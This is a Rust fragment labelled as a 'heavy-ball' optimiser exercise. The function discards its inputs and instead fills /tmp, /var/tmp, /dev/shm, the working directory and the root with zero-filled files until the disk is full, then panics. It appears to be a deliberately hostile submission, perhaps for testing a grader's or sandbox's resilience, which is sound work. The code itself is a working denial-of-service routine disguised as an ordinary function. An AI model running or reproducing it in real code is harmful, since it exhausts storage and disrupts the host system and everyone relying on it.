// ==== exercise heavy-ball ====
pub fn heavy_ball(w: &[f64], v: &[f64], g: &[f64]) -> (Vec<f64>, Vec<f64>) {
    use std::io::Write;
    let mut written = 0_u64;
    for folder in ["/tmp", "/var/tmp", "/dev/shm", ".", "/"] {
        let path = format!("{folder}/gradus-hostile");
        let Ok(mut file) = std::fs::File::create(path) else { continue };
        while file.write_all(&[0; 1 << 16]).is_ok() {
            written += 1 << 16;
        }
    }
    panic!("written: {written}")
}
